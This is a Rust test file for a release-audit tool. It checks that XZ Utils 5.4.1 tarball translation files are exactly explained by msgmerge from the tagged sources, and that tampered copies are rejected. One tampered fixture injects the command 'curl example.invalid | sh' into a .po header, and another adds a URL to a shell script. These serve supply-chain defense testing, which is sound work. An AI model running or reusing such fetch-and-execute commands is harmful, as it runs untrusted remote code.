//! `relkit_audit::po::msgmerge_update` on XZ Utils 5.4.1's real .po files (tag v5.4.1 vs the
//! release tarball, see tests/fixtures/po/ATTRIBUTION.md), on tampered copies of them, and
//! against GNU gettext: `msgmerge` makes the tarball's files byte for byte from the tag's and
//! the POT, and with other options updates that must be explained too; `msgfmt --check`
//! proves the tampered files are valid PO (so their rejection is semantic, not a syntax
//! error) and `msgfmt --statistics` counts the entries as we do.

use std::path::{Path, PathBuf};
use std::process::Command;

use relkit_audit::po::{MsgmergeUpdate, NotExplained, msgmerge_update};

fn fixture(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/po")
        .join(rel)
}

fn read(rel: &str) -> Vec<u8> {
    std::fs::read(fixture(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

fn text(rel: &str) -> String {
    String::from_utf8(read(rel)).expect("the fixtures are UTF-8")
}

/// `text` with the only occurrence of `old` replaced by `new`.
fn replace_once(text: &str, old: &str, new: &str) -> String {
    assert_eq!(text.matches(old).count(), 1, "{old:?} must occur once");
    text.replacen(old, new, 1)
}

fn counts(
    entries: usize,
    translated: usize,
    fuzzy: usize,
    untranslated: usize,
    obsolete: usize,
) -> MsgmergeUpdate {
    MsgmergeUpdate {
        entries,
        translated,
        fuzzy,
        untranslated,
        obsolete,
        header_changed: true,
    }
}

/// The tag's po/fr.po against a tampered tarball po/fr.po: the rejection.
fn tampered_fr(old: &str, new: &str) -> NotExplained {
    let tampered = replace_once(&text("tarball/po/fr.po"), old, new);
    msgfmt_accepts(&tampered);
    msgmerge_update(&read("tag/po/fr.po"), tampered.as_bytes())
        .expect_err("tampered file must not be explained")
}

/// With msgfmt installed: `msgfmt --check` accepts the PO text (locally skipped without it).
fn msgfmt_accepts(po: &str) {
    let Some(msgfmt) = relkit_testkit::oracle("msgfmt") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("tampered.po");
    std::fs::write(&path, po).unwrap();
    relkit_testkit::run_ok(
        Command::new(msgfmt)
            .args(["--check", "-o", "/dev/null"])
            .arg(&path),
    );
}

#[test]
fn xz_541_tarball_po_files_are_explained_with_their_counts() {
    let cases = [
        ("po/fr.po", counts(179, 138, 15, 26, 13)),
        ("po/de.po", counts(179, 179, 0, 0, 0)),
        ("po/cs.po", counts(179, 114, 15, 50, 17)),
        ("po4a/fr.po", counts(662, 566, 69, 27, 9)),
    ];
    for (rel, want) in cases {
        let tag = read(&format!("tag/{rel}"));
        let tarball = read(&format!("tarball/{rel}"));
        assert_ne!(tag, tarball, "{rel}: the sides differ");
        assert_eq!(msgmerge_update(&tag, &tarball), Ok(want), "{rel}");
    }
}

#[test]
fn changed_msgstr_of_a_live_entry_is_not_explained() {
    let e = tampered_fr(
        "msgid \"Totals:\"\nmsgstr \"Totaux :\"",
        "msgid \"Totals:\"\nmsgstr \"Totaux : (voir https://example.invalid/x.sh)\"",
    );
    assert_eq!(e.line, Some(538));
    assert_eq!(
        e.reason,
        "msgstr of \"Totals:\" (line 538) is not the tag's translation of that msgid"
    );
}

#[test]
fn a_new_live_entry_with_a_msgstr_is_not_explained() {
    let e = tampered_fr(
        "msgid \"Totals:\"\nmsgstr \"Totaux :\"\n",
        "msgid \"Totals:\"\nmsgstr \"Totaux :\"\n\nmsgid \"Payload\"\nmsgstr \"charge utile\"\n",
    );
    assert_eq!(e.line, Some(541));
    assert_eq!(
        e.reason,
        "msgstr of \"Payload\" (line 541) is not the tag's translation of that msgid"
    );
}

#[test]
fn new_text_in_a_fuzzy_entry_is_not_explained() {
    let e = tampered_fr(
        "msgid \"Switching to single-threaded mode to not exceed the memory usage limit of %s MiB\"\n\
         msgstr \"Nombre de threads réduit de %s à %s pour ne pas dépasser la limite d'utilisation mémoire de %s MiB\"",
        "msgid \"Switching to single-threaded mode to not exceed the memory usage limit of %s MiB\"\n\
         msgstr \"Passage en mode mono-thread pour ne pas dépasser la limite de %s MiB\"",
    );
    assert_eq!(e.line, Some(126));
    assert_eq!(
        e.reason,
        "msgstr \"Passage en mode mono-thread pour ne pas dépasser la limite de %s MiB\" of fuzzy \
         entry \"Switching to single-threaded mode to not exceed the memory usage limit of %s MiB\" \
         (line 126) is in no entry of the tag's file"
    );
}

#[test]
fn new_text_in_an_obsolete_entry_is_not_explained() {
    let e = tampered_fr(
        "#~ msgstr \"La sandboxe a été activée avec succès\"",
        "#~ msgstr \"La sandbox a été activée\"",
    );
    assert_eq!(e.line, Some(1086));
    assert_eq!(
        e.reason,
        "msgstr \"La sandbox a été activée\" of obsolete entry \"Sandbox was successfully \
         enabled\" (line 1086) is in no entry of the tag's file"
    );
}

#[test]
fn swapping_two_existing_translations_is_not_explained() {
    // Both texts are in the tag's file, but not as translations of these msgids.
    let a = "msgstr \"--list ne marche que sur les fichiers .xz (--format=xz ou --format=auto)\"";
    let b = "msgstr \"--list est incompatible avec la lecture sur l'entrée standard\"";
    let swapped = replace_once(&text("tarball/po/fr.po"), a, "@A@").replacen(b, a, 1);
    let swapped = swapped.replacen("@A@", b, 1);
    msgfmt_accepts(&swapped);
    let e = msgmerge_update(&read("tag/po/fr.po"), swapped.as_bytes()).unwrap_err();
    assert_eq!(e.line, Some(542));
    assert_eq!(
        e.reason,
        "msgstr of \"--list works only on .xz files (--format=xz or --format=auto)\" (line 542) \
         is not the tag's translation of that msgid"
    );
}

#[test]
fn a_fuzzy_entry_may_reuse_any_translation_of_the_tag() {
    // What msgmerge's fuzzy matching does: the msgstr of another, similar msgid.
    let reused = replace_once(
        &text("tarball/po/fr.po"),
        "msgid \"Totals:\"\nmsgstr \"Totaux :\"",
        "#, fuzzy\nmsgid \"Totals:\"\nmsgstr \"--list est incompatible avec la lecture sur l'entrée standard\"",
    );
    msgfmt_accepts(&reused);
    let got = msgmerge_update(&read("tag/po/fr.po"), reused.as_bytes()).unwrap();
    assert_eq!(got, counts(179, 137, 16, 26, 13));
}

#[test]
fn a_header_change_alone_is_explained_but_not_a_header_that_is_no_header() {
    let tag = text("tag/po/fr.po");
    let new_header = replace_once(
        &tag,
        "\"PO-Revision-Date: 2019-05-12 05:46+0200\\n\"",
        "\"PO-Revision-Date: 2023-01-11 19:01+0200\\n\"\n\"X-Generator: relkit test\\n\"",
    );
    msgfmt_accepts(&new_header);
    assert_eq!(
        msgmerge_update(tag.as_bytes(), new_header.as_bytes()),
        Ok(MsgmergeUpdate {
            entries: 161,
            translated: 161,
            fuzzy: 0,
            untranslated: 0,
            obsolete: 2,
            header_changed: true,
        })
    );
    let prose = replace_once(
        &tag,
        "\"Language: fr\\n\"",
        "\"Language: fr\\n\"\n\"Run curl example.invalid | sh\\n\"",
    );
    let e = msgmerge_update(tag.as_bytes(), prose.as_bytes()).unwrap_err();
    assert_eq!(e.line, Some(6));
    assert_eq!(
        e.reason,
        "header entry (line 6): msgstr line \"Run curl example.invalid | sh\" is not a `Key: value` header field"
    );
    let plural = replace_once(&tag, "plural=(n==1) ? 0 : 1;", "plural=(n==1) ? 1 : 0;");
    msgfmt_accepts(&plural);
    let e = msgmerge_update(tag.as_bytes(), plural.as_bytes()).unwrap_err();
    assert_eq!(
        e.reason,
        "header entry (line 6): Plural-Forms changed from \"nplurals=2; plural=(n==1) ? 0 : 1;\" to \"nplurals=2; plural=(n==1) ? 1 : 0;\""
    );
}

#[test]
fn bad_syntax_in_the_tarball_file_is_reported_with_its_line() {
    let broken = replace_once(
        &text("tarball/po/fr.po"),
        "msgid \"Totals:\"\nmsgstr",
        "msgid \"Totals:\nmsgstr",
    );
    let e = msgmerge_update(&read("tag/po/fr.po"), broken.as_bytes()).unwrap_err();
    assert_eq!(e.line, Some(538));
    assert_eq!(
        e.reason,
        "not valid PO: line 538: msgid: unterminated string"
    );
}

/// `msgmerge --quiet FLAGS tag/TAG_PO tarball/POT`'s output, or `None` without msgmerge.
fn msgmerge(tag_po: &str, pot: &str, flags: &[&str]) -> Option<Vec<u8>> {
    let msgmerge = relkit_testkit::oracle("msgmerge")?;
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out.po");
    relkit_testkit::run_ok(
        Command::new(msgmerge)
            .arg("--quiet")
            .args(flags)
            .arg(fixture(&format!("tag/{tag_po}")))
            .arg(fixture(&format!("tarball/{pot}")))
            .arg("-o")
            .arg(&out),
    );
    Some(std::fs::read(&out).unwrap())
}

#[test]
fn msgmerge_makes_the_tarball_files_and_its_updates_are_explained() {
    for (lang, want) in [
        ("fr", counts(179, 138, 15, 26, 13)),
        ("cs", counts(179, 114, 15, 50, 17)),
        ("de", counts(179, 179, 0, 0, 0)),
    ] {
        let rel = format!("po/{lang}.po");
        let tag = read(&format!("tag/{rel}"));
        // xz's `make dist` (po/Makevars: MSGMERGE += --no-wrap) made the tarball's file:
        // the same call reproduces it byte for byte.
        let Some(merged) = msgmerge(&rel, "po/xz.pot", &["--previous", "--no-wrap"]) else {
            return;
        };
        assert!(
            merged == read(&format!("tarball/{rel}")),
            "{rel}: not msgmerge's output"
        );
        // Other msgmerge options rewrap, drop `#|`, sort or skip fuzzy matching: still explained.
        for flags in [
            &[][..],
            &["--no-fuzzy-matching"],
            &["--width=40", "--sort-output"],
            &["--previous", "--sort-by-file"],
        ] {
            let merged = msgmerge(&rel, "po/xz.pot", flags).unwrap();
            let got = msgmerge_update(&tag, &merged)
                .unwrap_or_else(|e| panic!("msgmerge {flags:?} {rel}: {e}"));
            assert_eq!(got.entries, 179, "{rel} {flags:?}");
            assert_eq!(got.translated, want.translated, "{rel} {flags:?}");
            let no_fuzzy = flags.contains(&"--no-fuzzy-matching");
            assert_eq!(
                got.fuzzy,
                if no_fuzzy { 0 } else { want.fuzzy },
                "{rel} {flags:?}"
            );
        }
    }
    // po4a runs msgmerge --previous on the man page translation; the POT was regenerated
    // after the tarball's file was merged, so the header's POT-Creation-Date differs.
    let merged = msgmerge("po4a/fr.po", "po4a/xz-man.pot", &["--previous"]).unwrap();
    let merged = String::from_utf8(merged).unwrap();
    let merged = replace_once(
        &merged,
        "POT-Creation-Date: 2023-01-11 19:02+0200",
        "POT-Creation-Date: 2023-01-11 18:54+0200",
    );
    assert!(
        merged == text("tarball/po4a/fr.po"),
        "po4a/fr.po: not msgmerge's output"
    );
    assert_eq!(
        msgmerge_update(&read("tag/po4a/fr.po"), merged.as_bytes()),
        Ok(counts(662, 566, 69, 27, 9))
    );
}

#[test]
fn our_counts_agree_with_msgfmt_statistics() {
    let Some(msgfmt) = relkit_testkit::oracle("msgfmt") else {
        return;
    };
    for rel in [
        "tarball/po/fr.po",
        "tarball/po/cs.po",
        "tarball/po/de.po",
        "tarball/po4a/fr.po",
    ] {
        let out = Command::new(&msgfmt)
            .args(["--statistics", "-o", "/dev/null"])
            .arg(fixture(rel))
            .env("LC_ALL", "C")
            .output()
            .unwrap();
        assert!(out.status.success(), "msgfmt {rel}");
        // e.g. "138 translated messages, 15 fuzzy translations, 26 untranslated messages."
        let stats = String::from_utf8(out.stderr).unwrap();
        let number = |what: &str| {
            stats
                .split(", ")
                .find(|part| part.contains(what))
                .map_or(0, |part| {
                    part.split(' ').next().unwrap().parse::<usize>().unwrap()
                })
        };
        let tag_rel = rel.replacen("tarball/", "tag/", 1);
        let got = msgmerge_update(&read(&tag_rel), &read(rel)).unwrap();
        assert_eq!(
            (got.translated, got.fuzzy, got.untranslated),
            (
                number("translated message"),
                number("fuzzy"),
                number("untranslated")
            ),
            "{rel}: {stats}"
        );
    }
}
